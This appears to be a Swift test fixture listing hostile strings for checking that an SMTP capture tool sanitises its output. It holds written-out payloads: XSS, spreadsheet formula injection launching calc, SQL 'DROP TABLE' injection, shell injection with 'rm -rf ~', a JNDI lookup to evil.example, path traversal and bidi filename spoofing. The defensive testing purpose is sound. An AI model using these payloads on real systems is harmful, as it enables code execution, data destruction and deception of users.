// OutputChecks: what strangers may write, a capture full of it, and checks of what must hold of output all the same.

/// What a stranger may write wherever text may stand, to do harm where it is shown, opened or read by another program.
package struct HostileString: Sendable {
  package var name: String
  package var bytes: [UInt8]

  package init(_ name: String, _ text: String) {
    self.name = name
    bytes = Array(text.utf8)
  }

  package init(_ name: String, bytes: [UInt8]) {
    self.name = name
    self.bytes = bytes
  }

  package static let all: [HostileString] = [
    // Terminals.
    HostileString("clear screen", "\u{1b}[2J\u{1b}[H\u{1b}[31m"),
    HostileString("window title and clipboard", "\u{1b}]0;title\u{7}\u{1b}]52;c;ZXZpbA==\u{1b}\\"),
    HostileString("device control and answers", "\u{1b}P$q\"p\u{1b}\\\u{1b}[6n\u{1b}[c\u{1b}c"),
    HostileString("C1 in UTF-8", "\u{9b}31m\u{9d}0;title\u{9c}\u{85}\u{90}x"),
    HostileString("C1 raw", bytes: [0x9b, 0x33, 0x31, 0x6d, 0x85, 0x90, 0x9d, 0x30]),
    HostileString("backspace, bell and delete", "good\u{8}\u{8}\u{8}\u{8}evil\u{7}\u{7f}\u{e}\u{f}\u{c}\u{b}"),
    // Direction, width, look.
    HostileString("overrides", "invoice\u{202e}fdp.exe\u{202d}x\u{202a}\u{202b}\u{202c}"),
    HostileString("isolates", "\u{2066}a\u{2067}b\u{2068}c\u{2069}\u{200e}\u{200f}\u{61c}"),
    HostileString("zero width", "pay\u{200b}pal\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}\u{34f}\u{180e}\u{115f}\u{3164}"),
    HostileString("line separators", "a\u{2028}b\u{2029}c\u{85}d"),
    HostileString("tags and noncharacters", "\u{e0001}\u{e0041}\u{e007f}\u{ffff}\u{10fffe}"),
    HostileString("piles of marks", "a" + String(repeating: "\u{301}\u{489}", count: 40)),
    // Not text.
    HostileString("not UTF-8", bytes: [0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82, 0xf0, 0x9f]),
    HostileString(
      "surrogates and overlong", bytes: [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80, 0xc0, 0xaf, 0xe0, 0x80, 0xaf]),
    HostileString("NUL", "a\0b\0"),
    // Markup.
    HostileString("script", "</script><script>alert(1)</script><!--<img src=x onerror=alert(1)>"),
    HostileString("attribute", "\" onmouseover=\"alert(1)\" x='y' `z` &#34;&quot;&amp;"),
    HostileString("style and comment", "*/}</style><svg/onload=alert(1)>]]>-->"),
    // Tables.
    HostileString("formula =", "=HYPERLINK(\"http://evil.example\";\"x\")+cmd|' /C calc'!A0"),
    HostileString("formula +", "+1+cmd|' /C calc'!A0"),
    HostileString("formula -", "-2+3+cmd|' /C calc'!A0"),
    HostileString("formula @", "@SUM(1+9)*cmd|' /C calc'!A0"),
    HostileString("formula behind a tab", "\t=1+1"),
    HostileString("formula behind CR", "\r=1+1"),
    HostileString("cells", "a,b;c\",\"d\"\n\"e\",=1+1\r\nf,g"),
    HostileString("tabs and backslashes", "a\tb\\tc\\\td\\x09\\\\\n\\n#fields\tx"),
    HostileString("Zeek's own marks", "-\t(empty)\t-,-\t(empty),a,\\x2c,b"),
    HostileString("Zeek's empty", "(empty)"),
    HostileString("Zeek's unset", "-"),
    HostileString("Zeek's head", "x\n#close\t2026-11-26-00-00-00\n#separator \\x20"),
    // Records.
    HostileString("end of a string", "\",\"outcome\":\"accepted\"},{\"x\":[\\\"\\u0022\\"),
    HostileString("another record", "x\"}\n{\"type\":\"session\",\"id\":99}\n"),
    HostileString("SQL", "x'); DROP TABLE sessions;-- \"; DELETE FROM mails; /* %_?1 :a @b $c"),
    HostileString("search terms", "\"x\" OR NEAR(a, b) * ^ {mails} : -"),
    // Dialogue and mailboxes.
    HostileString("forged reply", "x\r\n250 2.0.0 Ok: queued\r\n"),
    HostileString("From_ line", "\nFrom evil@example Thu Nov 26 12:00:00 2026\nSubject: forged\n\nFrom x"),
    HostileString("quoted From_ line", "From x\r\n>From y\r\n>>From z\r\n"),
    // Files.
    HostileString("path", "../../../../../../tmp/smtpscope-evil"),
    HostileString("absolute path", "/tmp/smtpscope-evil.txt"),
    HostileString("Windows path", "..\\..\\C:\\evil.txt:stream"),
    HostileString("device", "CON"), HostileString("device with ending", "aux.txt"), HostileString("port", "COM1:"),
    HostileString("dots", ".."), HostileString("hidden", ".bashrc"), HostileString("option", "-rf"),
    HostileString("trailing blanks", "evil.exe . . "),
    HostileString("shell", "$(touch /tmp/smtpscope-evil) `id` ; rm -rf ~ | x && y > z"),
    HostileString("format", "%s%n%x%1000000d {0} ${jndi:ldap://evil.example/a}"),
    // Too much.
    HostileString("very long", String(repeating: "a", count: 3000)),
    HostileString("long and wide", String(repeating: "東", count: 400)),
    HostileString("blanks", String(repeating: " ", count: 200)),
    HostileString("nothing", ""),
  ]
}
